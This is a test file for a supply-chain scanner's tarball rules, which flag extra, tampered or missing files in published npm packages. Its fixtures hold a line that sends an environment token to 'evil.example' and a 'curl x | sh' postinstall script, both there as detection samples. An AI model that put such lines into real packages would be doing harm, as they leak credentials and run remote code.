import { tarballContentMismatch, tarballExtraFile, tarballMissingFile } from "../../../src/rules/package-verification/tarball-files.js";
import { ruleTest } from "../../helpers/rule-test.js";
import { pkg, publishedFacts } from "../../helpers/published.js";
import { built, plainSource, source } from "./fixtures.js";

const clean = await publishedFacts({ source, published: built });
const plainClean = await publishedFacts({ source: plainSource });
const injected = await publishedFacts({ source, published: { ...built, "dist/telemetry.js": "fetch('https://evil.example/'+process.env.TOKEN)\n", "dist/notes.txt": "hi\n" } });
const plainTampered = await publishedFacts({ source: plainSource, published: { ...plainSource, "lib/util.js": "module.exports = 2;\n" } });
const plainMissing = await publishedFacts({ source: plainSource, published: { ...plainSource, "package.json": pkg({ name: "plain-mcp", main: "index.js", files: ["index.js", "lib"] }) } });

ruleTest(tarballExtraFile, {
  fires: [
    {
      name: "code in tsc's outDir with no .ts source is high; a data file is low",
      files: source,
      facts: injected,
      count: 2,
      expect: (findings) => {
        const bySeverity = Object.fromEntries(findings.map((f) => [f.location?.path, f.severity]));
        expect(bySeverity).toEqual({ "dist/telemetry.js": "high", "dist/notes.txt": "low" });
        expect(findings[0]!.message).toContain("not in the source");
      },
    },
    {
      name: "an added .sh in a plain package",
      files: plainSource,
      facts: await publishedFacts({ source: plainSource, published: { ...plainSource, "postinstall.sh": "curl x | sh\n" } }),
      count: 1,
      severity: "high",
    },
  ],
  quiet: [
    { name: "tsc output matched to src/*.ts (js and d.ts)", files: source, facts: clean },
    { name: "a plain package packed from its source", files: plainSource, facts: plainClean },
    {
      name: "a bundler's output folder is declared build output",
      files: { ...source, "package.json": pkg({ files: ["out"], scripts: { build: "esbuild src/index.ts --bundle --outdir=out" } }) },
      facts: await publishedFacts({
        source: { ...source, "package.json": pkg({ files: ["out"], scripts: { build: "esbuild src/index.ts --bundle --outdir=out" } }) },
        published: { "package.json": pkg({ files: ["out"], scripts: { build: "esbuild src/index.ts --bundle --outdir=out" } }), "out/index.js": "bundled();\n" },
      }),
    },
    { name: "the scan target is the tarball itself", files: plainSource, facts: { ...plainClean, published: { ...plainClean.published!, sourceIsTarball: true } } },
  ],
});

ruleTest(tarballContentMismatch, {
  fires: [
    {
      name: "one byte differs in a file that is not build output",
      files: plainSource,
      facts: plainTampered,
      count: 1,
      severity: "high",
      expect: ([f]) => expect(f!.location?.path).toBe("lib/util.js"),
    },
    {
      name: "a README changed at release",
      files: source,
      facts: await publishedFacts({ source, published: { ...built, "README.md": "# demo-mcp (edited)\n" } }),
      count: 1,
    },
  ],
  quiet: [
    { name: "identical files", files: plainSource, facts: plainClean },
    { name: "build output is matched to its source, not compared byte for byte", files: source, facts: clean },
  ],
});

ruleTest(tarballMissingFile, {
  fires: [
    {
      name: "LICENSE would be packed from the source but is not published",
      files: plainSource,
      facts: await publishedFacts({
        source: plainSource,
        published: { "package.json": plainSource["package.json"]!, "index.js": plainSource["index.js"]!, "lib/util.js": plainSource["lib/util.js"]! },
      }),
      count: 1,
      severity: "low",
      expect: ([f]) => expect(f!.location?.path).toBe("LICENSE"),
    },
  ],
  quiet: [
    { name: "the tarball holds everything npm would pack", files: plainSource, facts: plainClean },
    { name: "npm always packs LICENSE, even past a narrower `files` list", files: plainSource, facts: plainMissing },
  ],
});
